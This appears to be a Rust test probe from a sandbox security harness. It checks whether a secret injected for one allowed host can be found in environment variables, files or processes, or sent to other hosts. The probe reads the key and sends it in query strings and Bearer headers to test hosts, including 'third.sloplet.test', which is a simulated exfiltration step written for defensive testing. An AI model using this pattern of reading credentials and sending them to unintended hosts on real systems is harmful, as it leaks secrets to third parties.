//! Keys that are put in outside.

use std::collections::BTreeMap;

use sloplet_engine::outward::private::Private;
use sloplet_gateway::SecretValue;
use sloplet_policy::{Feature, SecretRule};

use super::{ALLOWED, NAMES_OF_WORLD, OTHER, PUBLIC_TOO, reach, rules};
use crate::calls::Call;
use crate::drill::{Drill, DrillError, settle};
use crate::outside::World;
use crate::probe::{Finding, Kind, Pending, Probe};

pub const PROBE: Probe = Probe {
    name: "egress-secrets",
    ids: &[61],
    tries: "find a key's real value in variables, files and processes inside; send it to a host that it is not for",
    why: "an agent that is talked into telling its key tells a placeholder, which is worth nothing elsewhere",
    needs: &[Feature::Egress],
    kind: Kind::Drill(run),
};

/// The variable inside.
const NAME: &str = "SLOPLET_VERIFY_KEY";

fn run<'a>(drill: &'a Drill<'a>) -> Pending<'a> {
    settle(attack(drill))
}

async fn attack(drill: &Drill<'_>) -> Result<Finding, DrillError> {
    let world = World::open(&NAMES_OF_WORLD).await?;
    world.name("third.sloplet.test", &[&[PUBLIC_TOO]]);
    let Ok(rule) = format!("{NAME}@{ALLOWED};http").parse::<SecretRule>() else {
        return Ok(Finding::inconclusive("", "there is no rule for such a key"));
    };
    let real = format!("real-{}", sloplet_engine::engine::new_secret());
    let spec = drill.spec_with(|spec| {
        reach(spec, rules(&[ALLOWED, OTHER]));
        spec.secrets = vec![rule];
    });
    let given = BTreeMap::from([(NAME.to_owned(), SecretValue::new(real.clone().into_bytes()))]);
    let private = Private::prepare(&spec, &given).map_err(sloplet_engine::EngineError::from)?;
    let sandbox = drill.made_with(&world, spec, private).await?;
    let shown = drill.act(&sandbox, &["variable", NAME]).await?.out;
    let with_key = |host: &str, path: &str| {
        let head = format!("GET {path}?key={shown} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {shown}\r\n");
        Call::text(host, 80, &[&format!("{head}Connection: close\r\n\r\n")])
    };
    let calls = [with_key(ALLOWED, "/right"), with_key(OTHER, "/wrong"), with_key("third.sloplet.test", "/third")];
    drill.call(&sandbox, &calls).await?;
    // In halves: the searcher must not find itself.
    let (first, second) = real.split_at(real.len() / 2);
    let found = drill.act(&sandbox, &["search", first, second]).await?;
    let proof = drill.act(&sandbox, &["search", &shown[..shown.len() / 2], &shown[shown.len() / 2..]]).await?;
    sandbox.destroy().await?;
    let with = |path: &str, text: &str| world.heard_with(path, text);
    if !with("/right", &real) {
        return Ok(Finding::inconclusive("", "the key was not put in where it should be"));
    }
    if proof.code != 0 {
        return Ok(Finding::inconclusive("", format!("the search does not even find the placeholder: {}", proof.out)));
    }
    let control = "the host it is for got the real value; the search finds the placeholder";
    let mut out = Vec::new();
    if shown.contains(&real) {
        out.push(format!("the variable {NAME} holds it"));
    }
    if found.code == 0 {
        out.push(format!("it is in {}", found.out));
    }
    if with("/wrong", &real) || with("/third", &real) {
        out.push("a host that it is not for got it".to_owned());
    }
    if !with("/wrong", &shown) {
        return Ok(Finding::inconclusive(control, "the other host was not reached at all"));
    }
    let held = out.is_empty();
    let detail = if held { "a placeholder everywhere else".to_owned() } else { out.join("; ") };
    Ok(Finding::judge(held, control, detail))
}
